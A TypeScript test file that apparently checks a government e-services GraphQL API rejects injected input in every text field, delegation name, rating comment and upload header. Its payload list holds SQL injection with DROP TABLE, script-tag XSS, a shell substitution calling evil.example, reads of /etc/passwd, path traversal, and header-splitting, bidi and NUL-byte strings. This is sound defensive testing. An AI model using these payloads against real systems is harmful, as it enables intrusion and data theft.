import { casesOf, graphql } from '../case';
import { asHall, type CorpusContext, spoiled } from './context';

/**
 * Injection strings of every family: SQL, script and markup, templates, shells, paths, XML (the registry
 * speaks SOAP), NoSQL and LDAP operators, header splitting, invisible and control characters.
 */
export const PAYLOADS: readonly { readonly family: string; readonly text: string }[] = [
  { family: 'SQL tautology', text: "张三' OR '1'='1" },
  { family: 'SQL stacked query', text: "1号'; DROP TABLE applications; --" },
  { family: 'script tag', text: '<script>alert(document.cookie)</script>' },
  { family: 'attribute breakout', text: '"><img src=x onerror=alert(1)>' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template injection, written as one
  { family: 'template expression', text: '{{7*7}}${7*7}' },
  { family: 'shell substitution', text: '$(curl evil.example)`id`' },
  { family: 'shell pipe', text: 'a | cat /etc/passwd' },
  { family: 'path traversal', text: '../../../../etc/passwd' },
  { family: 'SOAP breakout', text: ']]></Name><Owner>攻击者</Owner><Name><![CDATA[' },
  { family: 'NoSQL operator', text: '{"$ne": null}' },
  { family: 'LDAP filter', text: '*)(uid=*))(|(uid=*' },
  { family: 'header splitting', text: '张三\r\nSet-Cookie: session=stolen' },
  { family: 'bidi override', text: '张三\u202Efdp.exe' },
  { family: 'zero-width joiner', text: '张\u200D三' },
  { family: 'format string', text: '%s%s%s%n' },
];

const HOUSE_TRANSFER_TEXT = [
  'applicant.name',
  'seller.name',
  'property.address',
  'property.certificateNumber',
  'transaction.contractNumber',
];
/** Text fields of the other bundles, checked with checkForm (a single field, no department is asked). */
const OTHER_TEXT: readonly [bundle: string, key: string][] = [
  ['START-BUSINESS', 'enterprise.name'],
  ['START-BUSINESS', 'enterprise.address'],
  ['START-BUSINESS', 'enterprise.businessScope'],
  ['START-BUSINESS', 'enterprise.legalRepName'],
  ['START-BUSINESS', 'fund.contactName'],
  ['START-BUSINESS', 'tax.financialContactName'],
  ['COMPANY-CHANGE', 'enterprise.changeDescription'],
  ['COMPANY-CHANGE', 'enterprise.newName'],
  ['COMPANY-CHANGE', 'enterprise.newAddress'],
  ['COMPANY-DEREGISTRATION', 'tax.clearanceReason'],
  ['HOUSE-TRANSFER', 'mortgage.mortgagee'],
];

const SUBMIT =
  'mutation S($i: ApplicationInput!) { submitApplication(input: $i) { application { id } problems { field code message { zh en } } } }';
const GRANT_DELEGATION =
  'mutation G($i: DelegationInput!) { grantDelegation(input: $i) { delegation { id } problems { field code message { zh en } } } }';
const CHECK =
  'query C($b: ID!, $o: [String!], $v: [FormValueInput!]!) { checkForm(bundleCode: $b, options: $o, values: $v) { valid problems { field code message { zh en } } } }';

/**
 * Every text field of every bundle with injection strings: the house transfer's in a form right in every
 * other way (so nothing but the text itself can refuse it, and a refusal that fails would store an
 * application), the other bundles' through checkForm; a delegation's agent name; the rating's comment, a case sent straight to a
 * department, a material's name, and codes that are looked up.
 */
export const injection = (ctx: CorpusContext) => {
  const t = ctx.tokens;
  const at = (field: string) => ({ status: 200, rule: 'field.characters', field });
  const houseTransfer = HOUSE_TRANSFER_TEXT.flatMap((key) =>
    PAYLOADS.map((p) => ({
      name: `${key}: ${p.family}`,
      ...graphql(
        SUBMIT,
        {
          i: {
            bundleCode: 'HOUSE-TRANSFER',
            values: spoiled(ctx, key, p.text),
            materials: ctx.applicant.materials,
          },
        },
        t.applicant,
      ),
      expect: at(key),
    })),
  );
  const others = OTHER_TEXT.flatMap(([bundle, key], i) =>
    [
      PAYLOADS[(i * 3) % PAYLOADS.length]!,
      PAYLOADS[(i * 3 + 1) % PAYLOADS.length]!,
      PAYLOADS[(i * 3 + 2) % PAYLOADS.length]!,
    ].map((p) => ({
      name: `${bundle} ${key}: ${p.family}`,
      ...graphql(
        CHECK,
        { b: bundle, o: key.startsWith('mortgage.') ? ['loan'] : [], v: [{ key, value: p.text }] },
        t['legal-rep'],
      ),
      expect: at(key),
    })),
  );
  const caseInput = (over: Record<string, unknown>) => ({
    i: {
      itemCode: 'TAX-INVOICE',
      idempotencyKey: 'corpus-invoice-1',
      applicantIdNumber: ctx.applicant.idNumber,
      applicantName: ctx.applicant.name,
      fields: [{ key: 'tax.invoiceType', value: 'digital' }],
      ...over,
    },
  });
  const SUBMIT_TAX = 'mutation S($i: CaseInput!) { submitTaxCase(input: $i) { caseNumber } }';
  const RATE =
    'mutation R($a: ID!, $c: String) { rateApplication(applicationId: $a, level: 5, comment: $c) { id } }';
  const upload = (name: string) => ({
    path: '/materials',
    headers: {
      authorization: `Bearer ${t.applicant}`,
      'content-type': 'application/pdf',
      'x-material-name': name,
    },
    body: '%PDF-1.4 corpus',
  });
  // The name of an agent a delegation is granted to (grantDelegation answers its problems like a form).
  const delegations = PAYLOADS.map((p) => ({
    name: `delegation agentName: ${p.family}`,
    ...graphql(
      GRANT_DELEGATION,
      {
        i: {
          agentIdNumber: '11010519491231002X',
          agentName: p.text,
          bundleCodes: ['HOUSE-TRANSFER'],
          validUntil: new Date(Date.now() + 8 * 3_600_000 + 30 * 86_400_000).toISOString().slice(0, 10),
        },
      },
      t.applicant,
    ),
    expect: at('agentName'),
  }));
  return casesOf('injection', [
    ...houseTransfer,
    ...others,
    ...delegations,
    ...['script tag', 'SQL stacked query', 'SOAP breakout', 'bidi override'].map((family) => ({
      name: `rating comment: ${family}`,
      ...graphql(
        RATE,
        { a: ctx.applicant.applicationId, c: PAYLOADS.find((p) => p.family === family)!.text },
        t.applicant,
      ),
      expect: { status: 200, code: 'INVALID_INPUT', rule: 'rating.characters' },
    })),
    {
      name: 'rating comment: a NUL byte',
      ...graphql(RATE, { a: ctx.applicant.applicationId, c: '很好\u0000' }, t.applicant),
      expect: { status: 200, code: 'INVALID_INPUT', rule: 'text.controlCharacter' },
    },
    {
      name: 'form value: a NUL byte',
      ...graphql(
        SUBMIT,
        {
          i: {
            bundleCode: 'HOUSE-TRANSFER',
            values: spoiled(ctx, 'applicant.name', '张\u0000三'),
            materials: ctx.applicant.materials,
          },
        },
        t.applicant,
      ),
      expect: { status: 200, code: 'INVALID_INPUT', rule: 'text.controlCharacter' },
    },
    {
      name: 'form value: an escape sequence (terminal injection)',
      ...graphql(
        SUBMIT,
        {
          i: {
            bundleCode: 'HOUSE-TRANSFER',
            values: spoiled(ctx, 'property.address', '\u001b[2J\u001b[31m'),
            materials: ctx.applicant.materials,
          },
        },
        t.applicant,
      ),
      expect: { status: 200, code: 'INVALID_INPUT', rule: 'text.controlCharacter' },
    },
    {
      name: 'case at a department: applicant name with a script',
      ...asHall(ctx, graphql(SUBMIT_TAX, caseInput({ applicantName: '<script>alert(1)</script>' }))),
      expect: { status: 200, code: 'INVALID_INPUT', rule: 'field.text' },
    },
    {
      name: 'case at a department: idempotency key of 10 000 characters',
      ...asHall(ctx, graphql(SUBMIT_TAX, caseInput({ idempotencyKey: 'k'.repeat(10_000) }))),
      expect: { status: 200, code: 'INVALID_INPUT', rule: 'key.format' },
    },
    {
      name: 'case at a department: a text field with SOAP',
      ...asHall(
        ctx,
        graphql(SUBMIT_TAX, caseInput({ fields: [{ key: 'applicant.name', value: PAYLOADS[8]!.text }] })),
      ),
      expect: { status: 200, code: 'INVALID_INPUT', rule: 'field.text' },
    },
    {
      name: 'a form value key with SQL',
      ...graphql(
        CHECK,
        { b: 'HOUSE-TRANSFER', o: [], v: [{ key: "x'; DROP TABLE consents; --", value: '1' }] },
        t.applicant,
      ),
      expect: { status: 200, rule: 'field.unknown', field: "x'; DROP TABLE consents; --" },
    },
    {
      name: 'a bundle code with SQL',
      ...graphql(
        'mutation { grantConsent(bundleCode: "HOUSE-TRANSFER\' OR \'1\'=\'1", scopes: ["tax"]) { id } }',
        {},
        t.applicant,
      ),
      expect: { status: 200, code: 'INVALID_INPUT', rule: 'bundle.unknown' },
    },
    {
      name: 'a consent scope with a script',
      ...graphql(
        'mutation { grantConsent(bundleCode: "HOUSE-TRANSFER", scopes: ["<script>"]) { id } }',
        {},
        t.applicant,
      ),
      expect: { status: 200, code: 'INVALID_INPUT', rule: 'scope.unknown' },
    },
    {
      name: 'material name: a NUL byte',
      ...upload('a%00b.pdf'),
      expect: { status: 400, code: 'MATERIAL_NAME_INVALID' },
    },
    {
      name: 'material name: not UTF-8',
      ...upload('%E0%A4%A'),
      expect: { status: 400, code: 'MATERIAL_NAME_INVALID' },
    },
    {
      name: 'material name: 300 characters',
      ...upload(encodeURIComponent('名'.repeat(300))),
      expect: { status: 400, code: 'MATERIAL_NAME_INVALID' },
    },
    {
      name: 'material name: header splitting',
      ...upload('a.pdf%0D%0ASet-Cookie%3A%20x%3D1'),
      expect: { status: 400, code: 'MATERIAL_NAME_INVALID' },
    },
  ]);
};
